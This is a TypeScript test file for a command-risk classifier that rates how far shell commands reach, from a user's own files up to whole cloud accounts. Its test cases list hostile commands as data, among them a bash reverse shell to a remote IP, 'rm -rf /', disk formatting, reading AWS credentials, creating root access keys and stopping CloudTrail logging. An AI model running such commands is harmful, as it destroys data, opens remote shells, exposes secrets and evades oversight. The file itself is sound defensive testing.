import { describe, expect, it } from "vitest";
import { reachOf, sharedEntries } from "../../lib/assess/reach.js";
import { read } from "../../lib/command/reading.js";
import { signatureOf } from "../../lib/command/signature.js";
import { understand } from "../../lib/command/understand.js";
import type { Reach } from "../../lib/domain/finding.js";
import { tellingImpact } from "../../lib/domain/impact.js";
import { defaultCatalogue } from "../../lib/impact/catalogue/index.js";
import { classify } from "../../lib/impact/classify.js";

/** How far the worst command of a line goes. */
const reachIn = (line: string): Reach | undefined => {
  const { commands } = understand({ kind: "script", text: line });
  const impacts = commands.map((command) => ({ command, impact: tellingImpact(classify(command)) }));
  const [worst] = impacts.toSorted((a, b) => (b.impact?.weight ?? 0) - (a.impact?.weight ?? 0));
  if (worst?.impact === undefined) return undefined;
  const { wrappers } = worst.command;
  return reachOf(worst.impact, { signature: signatureOf(read(worst.command), wrappers), wrappers });
};

describe("what a command reaches", () => {
  it.each<[string, Reach]>([
    ["rm -rf src", "own"],
    ["git reset --hard", "own"],
    ["find . -name '*.bak' -delete", "own"],
    ["sudo rm -rf /var/lib/app", "machine"],
    ["rm -rf /", "machine"],
    ["mkfs.ext4 /dev/sda1", "machine"],
    ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "machine"],
    ["echo x >> ~/.bashrc", "machine"],
    ["ssh web-1 'rm -rf src'", "shared"],
    ["kubectl exec web -- rm -rf data", "shared"],
    ["git push --force origin feature", "shared"],
    ["git push --force origin main", "shared"],
    ["cat ~/.aws/credentials", "shared"],
    ["aws s3 rm s3://shop-exports --recursive", "shared"],
    ["psql -c 'drop table orders'", "shared"],
    ["npm publish", "shared"],
    ["terraform apply -auto-approve", "shared"],
    ["terraform apply -var-file=production.tfvars", "everything"],
    ["terraform destroy", "everything"],
    ["kubectl delete pods --all", "everything"],
    ["aws iam create-access-key --user-name root", "everything"],
    ["aws cloudtrail stop-logging --name org", "everything"],
    ["ssh db-prod-1 'rm -rf data'", "shared"],
  ])("%s: %s", (line, reach) => expect(reachIn(line)).toBe(reach));

  it.each(sharedEntries)("entries %s* are in the catalogue", (begin) =>
    expect(defaultCatalogue.entries.some(({ id }) => id.startsWith(begin))).toBe(true),
  );
});
